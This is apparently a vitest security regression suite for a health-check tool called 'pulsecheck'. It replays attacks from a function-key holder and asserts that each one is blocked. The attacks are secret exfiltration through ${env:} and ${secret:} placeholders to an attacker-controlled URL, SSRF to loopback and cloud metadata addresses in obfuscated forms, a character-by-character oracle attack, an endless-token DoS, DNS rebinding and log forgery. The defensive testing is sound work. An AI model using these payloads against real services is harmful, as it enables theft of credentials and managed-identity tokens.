import { randomBytes } from 'node:crypto';
import { createServer, request as httpRequest, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appFolder, runCli, type RunningCli } from '../support/host.js';
import { startIdentityEndpoint, type FakeIdentityEndpoint } from '../support/identity.js';

/**
 * Issue 10's findings, replayed as an attacker with a function key would, against `pulsecheck start`
 * run as a user runs it, in an environment like App Service's (a managed-identity endpoint on
 * loopback). The attacker's own server listens on 127.0.0.2, the only network the operator allowed
 * (`PULSECHECK_ALLOWED_NETWORKS=127.0.0.2/32`); the identity endpoint and the app itself are on
 * 127.0.0.1, which stays blocked. Every byte the attacker's server receives and every API answer is
 * kept and searched for the app's secrets at the end.
 */

const SETTING_VALUE = `setting-${randomBytes(12).toString('hex')}`;
const VAULT_ONLY = `vault-${randomBytes(12).toString('hex')}`;
const SHARED = `shared-${randomBytes(12).toString('hex')}`;
const CLIENT_SECRET = `client-${randomBytes(12).toString('hex')}`;
/** What an internal service shows past the 200 characters a run shows of it. */
const TAIL = randomBytes(10).toString('hex');
const SHOWN = 'A'.repeat(200);

interface Attacker {
  readonly url: string;
  /** Every request received: path, headers and body. */
  readonly received: string[];
  /** Bytes of the endless token answer written before the app hung up. */
  hugeBytes: number;
  close(): Promise<void>;
}

/** The attacker's server on 127.0.0.2 (any address in 127/8 is loopback on Linux). */
async function startAttacker(): Promise<Attacker> {
  const attacker = { received: [] as string[], hugeBytes: 0 } as Attacker & { url: string };
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      attacker.received.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
      if (req.url === '/internal') return res.end(`${SHOWN}${TAIL}`);
      if (req.url === '/echo') return res.end(JSON.stringify({ token: req.headers['x-token'] ?? '' }));
      if (req.url === '/sixteen') return res.end('a'.repeat(16));
      if (req.url === '/forge') return res.end(`ok\n12:00:00 \u2714 forged up 200 in 1 ms\u001b[2J\r\u001b[31m`);
      if (req.url === '/huge-token') {
        const chunk = Buffer.alloc(64 * 1024, 'a');
        res.writeHead(200, { 'content-type': 'application/json' });
        res.write('{"access_token":"');
        const pump = () => {
          while (attacker.hugeBytes < 200 * 1024 * 1024 && !res.destroyed) {
            attacker.hugeBytes += chunk.length;
            if (!res.write(chunk)) return void res.once('drain', pump);
          }
          res.end('"}');
        };
        res.on('error', () => undefined);
        return pump();
      }
      res.setHeader('content-type', 'application/json');
      return res.end('{"status":"UP"}');
    });
  });
  const sockets = new Set<Socket>();
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  attacker.url = `http://127.0.0.2:${(server.address() as AddressInfo).port}`;
  attacker.close = () =>
    new Promise<void>((resolve) => {
      for (const socket of sockets) socket.destroy();
      server.close(() => resolve());
    });
  return attacker;
}

describe('issue 10: a function-key holder against the local host', () => {
  let identity: FakeIdentityEndpoint;
  let attacker: Attacker;
  let host: RunningCli;
  let api: string;
  /** Every API answer. */
  const answers: string[] = [];

  const call = async (method: string, path: string, body?: unknown, headers: Record<string, string> = {}) => {
    const response = await fetch(`${api}${path}`, {
      method,
      headers: { ...(body === undefined ? {} : { 'content-type': 'application/json' }), ...headers },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    const text = await response.text();
    answers.push(text);
    return { status: response.status, text, json: () => JSON.parse(text) as Record<string, unknown> };
  };
  /** `POST /api/runs` of a definition; the run or the problem. */
  const tryRun = (definition: Record<string, unknown>) => call('POST', '/runs', { name: 'probe', ...definition });
  const issuesOf = (text: string) => (JSON.parse(text) as { issues?: Array<{ path: string; message: string }> }).issues ?? [];

  beforeAll(async () => {
    identity = await startIdentityEndpoint();
    attacker = await startAttacker();
    const dir = appFolder(
      { jobs: [{ name: 'forged', url: `${attacker.url}/forge`, every: '1h', conditions: ['[BODY] == healthy'] }] },
      { PULSECHECK_PORT: '0', PULSECHECK_TICK_SCHEDULE: '0 0 0 1 1 *' },
    );
    host = runCli(['start'], dir, {
      ...identity.env,
      PULSECHECK_ALLOWED_NETWORKS: '127.0.0.2/32',
      APP_DB_PASSWORD: SETTING_VALUE,
      PULSECHECK_SECRET_VAULT_ONLY: VAULT_ONLY,
      PULSECHECK_SECRET_SHARED_TOKEN: SHARED,
      PULSECHECK_SECRET_CLIENT_SECRET: CLIENT_SECRET,
      PULSECHECK_API_SECRETS_ALLOW: 'shared-token,client-secret',
      OTEL_NODE_RESOURCE_DETECTORS: 'env,host',
      // The oracle attacks take hundreds of requests: the rate limit would stop them first, and must not be what stops them here.
      PULSECHECK_RATE_LIMIT_WRITES: '0',
    });
    api = (await host.waitFor(/listening on (http:\/\/127\.0\.0\.1:\d+\/api)/))[1] as string;
  });
  afterAll(async () => {
    if (host && host.child.exitCode === null) host.child.kill('SIGKILL');
    await Promise.all([identity?.server.close(), attacker?.close()]);
  });

  it("cannot make the app send its managed-identity token to the caller's URL", async () => {
    for (const [method, path] of [['POST', '/runs'], ['POST', '/jobs']] as const) {
      const answer = await call(method, path, {
        name: 'steal-token',
        url: `${attacker.url}/capture`,
        every: '1h',
        auth: { type: 'managedIdentity', scope: 'https://management.azure.com/.default' },
      });
      expect(answer.status).toBe(400);
      expect(issuesOf(answer.text)).toContainEqual({ path: 'auth.scope', message: expect.stringContaining('PULSECHECK_API_MI_SCOPES_ALLOW') });
    }
    expect(identity.calls).toEqual([]);
  });

  it.each([
    ['url', { url: '${ATTACKER}/capture?p=${env:APP_DB_PASSWORD}' }, 'url'],
    ['a header', { headers: { 'x-leak': '${env:IDENTITY_HEADER}' } }, 'headers.x-leak'],
    ['the body', { method: 'POST', body: { conn: '${env:AzureWebJobsStorage}' } }, 'body'],
    ['auth.username', { auth: { type: 'basic', username: '${env:APP_DB_PASSWORD}', secret: 'shared-token' } }, 'auth.username'],
  ])("cannot read the app's settings through %s", async (_where, fields, path) => {
    const definition = JSON.parse(JSON.stringify({ url: '${ATTACKER}/capture', ...fields }).replaceAll('${ATTACKER}', attacker.url)) as Record<string, unknown>;
    const answer = await tryRun(definition);
    expect(answer.status).toBe(400);
    expect(issuesOf(answer.text)).toContainEqual({ path: expect.stringContaining(path), message: expect.stringContaining('PULSECHECK_API_ENV_ALLOW') });
  });

  it.each([
    ['${secret:} in a header', { headers: { 'x-leak': '${secret:vault-only}' } }],
    ['${secret:} in the url', { url: '${ATTACKER}/capture?s=${secret:vault-only}' }],
    ['bearer auth', { auth: { type: 'bearer', secret: 'vault-only' } }],
    ['apiKey auth', { auth: { type: 'apiKey', header: 'x-key', secret: 'vault-only' } }],
    ['basic auth', { auth: { type: 'basic', username: 'me', secret: 'vault-only' } }],
    ['oauth2 auth', { auth: { type: 'oauth2ClientCredentials', tokenUrl: '${ATTACKER}/token', clientId: 'c', secret: 'vault-only' } }],
    ['clientCertificate auth', { url: 'https://127.0.0.2:1/', auth: { type: 'clientCertificate', secret: 'vault-only' } }],
  ])('cannot read a vault secret that is not allowed through %s', async (_where, fields) => {
    const definition = JSON.parse(JSON.stringify({ url: '${ATTACKER}/capture', ...fields }).replaceAll('${ATTACKER}', attacker.url)) as Record<string, unknown>;
    const answer = await tryRun(definition);
    expect(answer.status).toBe(400);
    expect(answer.text).toContain('PULSECHECK_API_SECRETS_ALLOW');
  });

  it.each([
    'http://127.0.0.1:{ID}/msi/token',
    'http://2130706433:{ID}/msi/token',
    'http://0x7f000001:{ID}/msi/token',
    'http://0177.0.0.1:{ID}/msi/token',
    'http://127.1:{ID}/msi/token',
    'http://[::ffff:127.0.0.1]:{ID}/msi/token',
    'http://[::1]:{ID}/msi/token',
    'http://0.0.0.0:{ID}/msi/token',
    'http://169.254.169.254/metadata/identity/oauth2/token',
    'http://168.63.129.16/machine',
  ])('refuses the internal address %s at once (400 on url)', async (template) => {
    const url = template.replace('{ID}', String(identity.server.port));
    const answer = await tryRun({ url, headers: { 'x-identity-header': 'guess' } });
    expect(answer.status).toBe(400);
    expect(issuesOf(answer.text)).toContainEqual({ path: 'url', message: expect.stringContaining('PULSECHECK_ALLOWED_NETWORKS') });
  });

  it('refuses a hostname that resolves to loopback at connect time (error / blocked-target)', async () => {
    const answer = await tryRun({ url: `http://localhost:${identity.server.port}/msi/token`, conditions: ['[BODY] == pat(*)'] });
    expect(answer.status).toBe(200);
    const run = answer.json();
    expect(run).toMatchObject({ status: 'error', error: { kind: 'blocked-target' } });
    expect(JSON.stringify(run)).not.toContain('access_token');
    expect(identity.server.requests).toEqual([]);
  });

  it('refuses an OAuth2 tokenUrl on loopback, and reads at most 64 KB of an endless token answer', async () => {
    const blocked = await tryRun({
      url: `${attacker.url}/capture`,
      auth: { type: 'oauth2ClientCredentials', tokenUrl: `http://127.0.0.1:${identity.server.port}/token`, clientId: 'c', secret: 'client-secret' },
    });
    expect(blocked.status).toBe(400);
    expect(issuesOf(blocked.text)).toContainEqual({ path: 'auth.tokenUrl', message: expect.stringContaining('PULSECHECK_ALLOWED_NETWORKS') });

    const huge = await tryRun({
      url: `${attacker.url}/capture`,
      auth: { type: 'oauth2ClientCredentials', tokenUrl: `${attacker.url}/huge-token`, clientId: 'c', secret: 'client-secret' },
    });
    expect(huge.status).toBe(200);
    expect(huge.json()).toMatchObject({ status: 'error' });
    // Socket buffers on both sides hold a few MB; reading the answer whole would be 200 MB.
    expect(attacker.hugeBytes).toBeLessThan(32 * 1024 * 1024);
  });

  it('recovers nothing of a truncated value with pat() (the 22-request attack)', async () => {
    let known = SHOWN;
    for (let request = 0; request < 22; request++) {
      let found: string | undefined;
      for (const c of '0123456789abcdef') {
        const answer = await tryRun({ url: `${attacker.url}/internal`, conditions: [`[BODY] == pat(${known}${c}*)`] });
        expect(answer.status).toBe(200);
        if (answer.json().success === true) found = c;
      }
      if (found === undefined) break;
      known += found;
    }
    expect(known).toBe(SHOWN);
    const shown = await tryRun({ url: `${attacker.url}/internal`, conditions: ['[BODY] == x'] });
    expect(shown.text).not.toContain(TAIL.slice(0, 4));
  });

  it('recovers nothing of a masked secret a target echoes', async () => {
    for (const c of '0123456789abcdefhrs') {
      const answer = await tryRun({ url: `${attacker.url}/echo`, headers: { 'x-token': '${secret:shared-token}' }, conditions: [`[BODY].token == pat(${c}*)`] });
      expect(answer.status).toBe(200);
      expect(answer.json()).toMatchObject({ success: false });
      expect(answer.text).not.toContain(SHARED);
    }
  });

  it('evaluates pat() with many stars in linear time; health answers meanwhile', async () => {
    const started = performance.now();
    const [run, health] = await Promise.all([
      tryRun({ url: `${attacker.url}/sixteen`, conditions: [`[BODY] == pat(${'*'.repeat(20)}b)`, `[BODY] == pat(${'*a'.repeat(40)}*b)`] }),
      (async () => {
        await new Promise((resolve) => setTimeout(resolve, 50));
        const t = performance.now();
        await call('GET', '/health');
        return performance.now() - t;
      })(),
    ]);
    expect(run.json()).toMatchObject({ success: false });
    expect(performance.now() - started).toBeLessThan(3_000);
    expect(health).toBeLessThan(1_000);
  });

  it("takes the audit's actor from the platform only, not from a client's headers", async () => {
    const created = await call('POST', '/jobs', { name: 'audited', url: `${attacker.url}/capture`, every: '1h', enabled: false }, { 'x-ms-client-principal-name': 'ceo@example.com' });
    expect(created.status).toBe(201);
    const audit = await call('GET', '/audit');
    expect(audit.text).not.toContain('ceo@example.com');
  });

  it('refuses a Host that is not its own (DNS rebinding) with 421', async () => {
    const { port } = new URL(api);
    const status = await new Promise<number>((resolve, reject) => {
      const req = httpRequest({ host: '127.0.0.1', port, path: '/api/jobs', headers: { host: 'attacker.example' } }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
      req.on('error', reject);
      req.end();
    });
    expect(status).toBe(421);
  });

  it('prints what a target says as one escaped line, never a forged one', async () => {
    const run = await call('POST', '/jobs/forged/run');
    expect(run.json()).toMatchObject({ status: 'down' });
    await host.waitFor(/forged down/);
    const output = host.output() + host.errors();
    expect(output).not.toMatch(/^12:00:00 \u2714 forged up/m);
    expect(output).not.toContain('\u001b[');
  });

  it("never lets the app's settings, vault secrets or tokens reach the caller or the attacker", () => {
    const everything = [...answers, ...attacker.received, host.output(), host.errors()].join('\n');
    // The allowed secrets (shared-token, client-secret) may go where a caller says: that is what allowing means.
    for (const secret of [SETTING_VALUE, VAULT_ONLY, identity.env.IDENTITY_HEADER, ...identity.issued]) expect(everything).not.toContain(secret);
    expect(identity.calls).toEqual([]);
  });
});
